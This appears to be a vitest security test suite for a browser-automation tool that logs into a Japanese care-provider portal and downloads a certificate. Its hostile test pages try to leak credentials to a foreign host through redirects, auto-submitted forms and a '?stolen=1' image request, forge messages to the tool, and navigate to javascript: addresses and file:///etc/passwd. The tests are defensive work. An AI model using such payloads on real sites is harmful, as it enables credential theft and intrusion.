import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { drive, type Engine, type Visit } from './drive.ts';
import {
  DX_FILE,
  NOT_FOUND,
  PASSWORD,
  PortalServer,
  USER,
  attachment,
  loginPage,
  page,
  redirect,
  type Answer,
  type Portal,
} from './portal-server.ts';

/** A host that is not the portal's: whatever it hears is a leak. */
let foreign: PortalServer;
const AT_ONCE = { concurrent: true, timeout: 120_000 };
const ENGINES: Engine[] = ['chromium', 'webkitgtk'];

beforeAll(async () => {
  foreign = await PortalServer.start(() => page('よそ', '<a href="/login">介護事業所の方はこちら</a>'));
});
afterAll(async () => {
  await foreign.stop();
});

async function attacked(portal: Portal, engine: Engine): Promise<{ visit: Visit; server: PortalServer }> {
  const server = await PortalServer.start(portal);
  try {
    const { entry, authority } = server;
    return { visit: await drive({ engine, entry, authority, user: USER, password: PASSWORD }), server };
  } finally {
    await server.stop();
  }
}

/** Something of the page's that says what only the guide should: by every channel that there is. */
const says = (script: string) => `<script>
  const say = (m) => { const t = typeof m === 'string' ? m : JSON.stringify(m);
    if (window.webkit && webkit.messageHandlers && webkit.messageHandlers.guide) webkit.messageHandlers.guide.postMessage(t);
    else if (window.__shomeiGuidePost) window.__shomeiGuidePost(t); };
  ${script}</script>`;

const only =
  (answer: () => Answer): Portal =>
  ({ path }) =>
    path === '/' ? answer() : NOT_FOUND;

/** Ways to another host, each as the answer to the entry. */
const LEADS: Record<string, (to: string) => Answer> = {
  'a redirect': (to) => redirect(to, 302),
  'a meta refresh': (to) => page('x', `<meta http-equiv="refresh" content="0;url=${to}">`),
  'a script': (to) => page('x', `<script>location.href=${JSON.stringify(to)}</script>`),
  'a popup': (to) => page('x', `<script>window.open(${JSON.stringify(to)})</script>`),
  'a subframe': (to) => page('x', `<iframe src="${to}"></iframe>`),
  'a form': (to) =>
    page(
      'x',
      `<form method="post" action="${to}"><input name="a" value="1"></form><script>document.forms[0].submit()</script>`,
    ),
  'a picture': (to) => page('x', `<img src="${to}?stolen=1" alt="">`),
  'a message of another window': (to) => page('x', `<a href="${to}" target="_blank">介護事業所の方はこちら</a>`),
};

describe('other hosts are never asked', () => {
  for (const [name, lead] of Object.entries(LEADS)) {
    for (const engine of ENGINES) {
      it(`${name}, in ${engine}`, AT_ONCE, async () => {
        const { visit } = await attacked(
          only(() => lead(`${foreign.entry}from-${engine}`)),
          engine,
        );
        expect(visit).toMatchObject({ outcome: 'stopped' });
        expect(foreign.log).toEqual([]);
      });
    }
  }

  for (const engine of ENGINES) {
    it(`a redirected POST takes the password nowhere, in ${engine}`, AT_ONCE, async () => {
      const portal: Portal = ({ path, method }) => {
        if (path === '/') return loginPage('/login');
        return method === 'POST' ? redirect(`${foreign.entry}login`, 307) : NOT_FOUND;
      };
      const { visit, server } = await attacked(portal, engine);
      expect(visit).toMatchObject({ outcome: 'stopped' });
      expect(visit.presses).toEqual(['user-id', 'password', 'log-in']);
      expect(server.asked('POST /login')).toBe(1);
      expect(foreign.log).toEqual([]);
    });
  }
});

describe('what the page says is a hint', () => {
  const forged: Record<string, string> = {
    'an order': `say({ do: 'press', page: 1 }); say('nonsense'); say('x'.repeat(100000));`,
    'a page that is not there': `say({ type: 'page', number: 1, kind: 'certificates', title: '', next: { do: 'press', role: 'download', label: '0120-000-000' } });`,
    'a file of another kind': `const d = btoa('%PDF-1.7 not a certificate'); say({ type: 'file-start', length: 26 }); say({ type: 'file-part', at: 0, data: d }); say({ type: 'file-end' });`,
    'parts without an end': `say({ type: 'file-start', length: 262144 }); for (let i = 0; i < 20; i++) say({ type: 'file-part', at: i, data: 'AAAA' });`,
    'log-ins': `for (let i = 0; i < 5; i++) say({ type: 'log-in-sent' });`,
  };
  for (const [name, script] of Object.entries(forged)) {
    for (const engine of ENGINES) {
      it(`${name}, in ${engine}`, AT_ONCE, async () => {
        const { visit } = await attacked(
          only(() => page('x', `<p>ようこそ</p>${says(script)}`)),
          engine,
        );
        expect(visit).toMatchObject({ outcome: 'stopped' });
        expect(visit).not.toHaveProperty('file');
      });
    }
  }

  for (const engine of ENGINES) {
    it(`10,000 messages a second change nothing, in ${engine}`, AT_ONCE, async () => {
      const flood =
        says(`const end = Date.now() + 2000; const more = () => { for (let i = 0; i < 100; i++) say({ type: 'log-in-sent' });
        if (Date.now() < end) setTimeout(more, 10); else location.href = '/quiet'; }; more();`);
      const portal: Portal = ({ path }) => {
        if (path === '/') return page('x', flood);
        if (path === '/quiet')
          return page(
            '証明書ダウンロード',
            '<h1>証明書ダウンロード</h1><p>介護DX証明書 <a href="/file">ダウンロード</a></p>',
          );
        return path === '/file' ? attachment(DX_FILE) : NOT_FOUND;
      };
      const { visit } = await attacked(portal, engine);
      expect(visit).toMatchObject({ outcome: 'saved', presses: ['download'] });
      expect(visit.file?.equals(DX_FILE)).toBe(true);
    });
  }
});

describe('addresses that are no pages of the portal', () => {
  const addresses: Record<string, string> = {
    'a data address': `data:text/html,<a href='/'>介護事業所の方はこちら</a>`,
    'a script address': `javascript:'<a href=/>介護事業所の方はこちら</a>'`,
    'a file address': 'file:///etc/passwd',
  };
  for (const [name, address] of Object.entries(addresses)) {
    for (const engine of ENGINES) {
      it(`${name}, in ${engine}`, AT_ONCE, async () => {
        const body = `<script>setTimeout(()=>{location.href=${JSON.stringify(address)}},300)</script>`;
        const { visit } = await attacked(
          only(() => page('x', body)),
          engine,
        );
        expect(visit).toMatchObject({
          outcome: 'stopped',
          pages: expect.not.arrayContaining(['certificates']) as unknown,
        });
      });
    }
  }

  for (const engine of ENGINES) {
    it(`a file that the page makes is judged as any other, in ${engine}`, AT_ONCE, async () => {
      const body = `<h1>証明書ダウンロード</h1><p>介護DX証明書 <button onclick="const a=document.createElement('a');a.href=URL.createObjectURL(new Blob(['PK\\u0003\\u0004 a zip']));a.download='x.pfx';a.click()">ダウンロード</button></p>`;
      const { visit } = await attacked(
        only(() => page('証明書ダウンロード', body)),
        engine,
      );
      expect(visit).toMatchObject({ outcome: 'stopped', presses: ['download'] });
    });
  }
});
